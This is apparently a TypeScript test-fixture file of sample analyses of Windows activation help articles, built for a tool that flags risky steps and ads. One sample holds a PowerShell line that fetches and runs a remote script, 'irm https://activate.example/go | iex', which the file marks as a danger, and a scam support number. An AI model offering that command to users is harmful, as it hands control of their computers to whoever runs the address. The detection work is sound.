import type { Command, PageAnalysis, Procedure, Step } from '../../../../lib/model/analysis.ts';
import { describeCommand } from '../../../../lib/risks/commands.ts';

let count = 0;

/** A step; **names** and `code` in its text are set off, a Settings page is named by its emphasised words. */
function step(marked: string, extra: Partial<Step> & { page?: [words: string, uri: string] } = {}): Step {
  const { page, ...rest } = extra;
  const parts = marked.split('**');
  const text = parts.join('');
  let at = 0;
  const emphasis = parts.flatMap((part, index) => {
    const start = at;
    at += part.length;
    return index % 2 ? [{ start, end: at }] : [];
  });
  const start = page ? text.indexOf(page[0]) : -1;
  const references = page
    ? [{ uri: page[1], name: page[0], text: page[0], start, end: start + page[0].length }]
    : [];
  const nothing = { commands: [], pictures: [], notes: [], substeps: [], risks: [] };
  return { id: `s${count++}`, text, emphasis, references, ...nothing, ...rest };
}

function procedure(heading: string, ...steps: Step[]): Procedure {
  return { id: `p${count++}`, heading, part: '', steps };
}

function command(text: string): Command {
  const described = describeCommand(text);
  if (!described) throw new Error(`${text} is no command.`);
  return described;
}

const picture = { url: 'https://pictures.example/steps/activation.png', alt: 'The Activation page' };

const link = procedure(
  'Link the licence to your account',
  step('Open the Settings app by pressing Win + I.'),
  step('Click **Accounts**.'),
  step('Click **Your info** in **Account settings**.', { page: ['Your info', 'ms-settings:yourinfo'] }),
  step('Click **Sign in with a Microsoft account instead**.', {
    pictures: [picture],
    notes: [{ kind: 'note', text: 'On a work computer this link may be missing.' }],
  }),
  step('Type the credentials of your Microsoft account to complete the linking.'),
);

const check = procedure(
  'Check that it worked',
  step('Open **Activation** and expand **Activation state**.', {
    page: ['Activation', 'ms-settings:activation'],
  }),
  step('Open a terminal and look at the expiry:', {
    commands: [command('slmgr /xpr')],
    substeps: [
      step('Press Win + R, type **cmd** and press **Enter**.'),
      step('Type the command and press **Enter**.', {
        notes: [
          {
            kind: 'warning',
            text: 'The message opens in a window of its own; it may be behind the terminal.',
          },
        ],
      }),
    ],
  }),
  step('If it says that the key is blocked, put in your own key.', {
    commands: [command('slmgr /ipk AAAAA-*****-*****-*****-*****')],
  }),
);

/** An article with everything in it: two procedures, pages, commands, pictures, notes, ads. */
const linking: PageAnalysis = {
  url: 'https://help.example/windows/link-licence',
  language: 'en',
  verdict: 'guide',
  confidence: 0.97,
  reasons: ['the title speaks of a Windows licence'],
  title: 'How to link your Windows licence to a Microsoft account',
  procedures: [link, check],
  risks: [],
  adBlocks: [
    {
      reason: 'ad slot: "sidebar-ads"',
      kind: 'slot',
      detail: 'sidebar-ads',
      text: 'Speed up your PC today with one click',
    },
    {
      reason: 'affiliate link: tagged as affiliate, aff parameter',
      kind: 'affiliate',
      detail: 'keys.example',
      text: 'Get a genuine key for a fraction of the price, only today',
    },
    { reason: "between the site's ad comments", kind: 'comments', detail: '', text: '' },
  ],
};

const remote = {
  id: 'r1',
  rule: 'remote-script',
  level: 'danger' as const,
  text: 'irm https://activate.example/go | iex',
  title: 'This downloads a program from the internet and runs it',
  explanation: 'Whoever controls that address decides what runs on your computer, with administrator rights.',
  instead: 'Use the activation troubleshooter in Settings, or buy a licence.',
};

const phone = {
  id: 'r2',
  rule: 'support-phone',
  level: 'caution' as const,
  text: 'Call our certified technicians at 1-800-555-0100',
  title: 'The telephone number is not Microsoft’s',
  explanation: 'Callers to such numbers are often asked to pay or to install remote-control software.',
  instead: 'Get help in the Get Help app of Windows.',
};

/** An article with alternatives and dangers. */
const methods: PageAnalysis = {
  ...linking,
  url: 'https://tricks.example/activate',
  title: 'Windows not activated? Four ways to activate it',
  adBlocks: [],
  risks: [remote, phone],
  procedures: [
    procedure(
      'Method 1: Run the troubleshooter (Windows 11)',
      step('Go to **Settings > System > Troubleshoot**.', {
        page: ['Troubleshoot', 'ms-settings:troubleshoot'],
      }),
      step('Click **Run** beside **Activation**.'),
    ),
    procedure(
      'Method 2: Enter a product key',
      step('Open **Activation**.', { page: ['Activation', 'ms-settings:activation'] }),
    ),
    procedure(
      'Method 3: Use a script in PowerShell',
      step('Press Win + X and choose **Terminal (Admin)**.'),
      step('Paste irm https://activate.example/go | iex and press **Enter**.', {
        commands: [command(remote.text)],
        risks: ['r1'],
      }),
    ),
  ],
};

/** An article that tells the same ways in each of its parts. */
const parts: PageAnalysis = {
  ...methods,
  title: 'Activate Windows again after a repair',
  risks: [],
  procedures: ['After a new mainboard', 'After a new hard disk'].flatMap((part) => [
    { ...procedure('Method 1: With your account', step('Open **Activation**.')), part },
    { ...procedure('Method 2: By telephone', step('Press Win + R and type **slui 4**.')), part },
  ]),
};

/** A German article, as its words are longer. */
const german: PageAnalysis = {
  ...linking,
  language: 'de',
  title: 'Windows-Aktivierungsproblembehandlung nach einem Mainboardwechsel verwenden',
  procedures: [
    procedure(
      'Lizenz mit dem Microsoft-Konto verknüpfen',
      step('Drücken Sie Windows-Taste + I, um die **Einstellungen** zu öffnen.'),
      step('Öffnen Sie **Update und Sicherheit > Aktivierung**.', {
        page: ['Aktivierung', 'ms-settings:activation'],
      }),
      step(
        'Wählen Sie **Problembehandlung** und dann **Ich habe vor Kurzem Hardware auf diesem Gerät geändert**.',
      ),
    ),
  ],
};

/** An Arabic article, for the other direction. */
const arabic: PageAnalysis = {
  ...linking,
  language: 'ar',
  title: 'كيفية ربط ترخيص Windows بحساب Microsoft',
  procedures: [
    procedure(
      'ربط الترخيص بالحساب',
      step('اضغط على Win + I لفتح تطبيق **الإعدادات**.'),
      step('افتح صفحة **التنشيط** في الإعدادات.', { page: ['التنشيط', 'ms-settings:activation'] }),
      step('شغّل الأمر التالي:', {
        commands: [command('slmgr /xpr')],
      }),
    ),
  ],
};

export const samples = { linking, methods, parts, german, arabic } satisfies Record<string, PageAnalysis>;
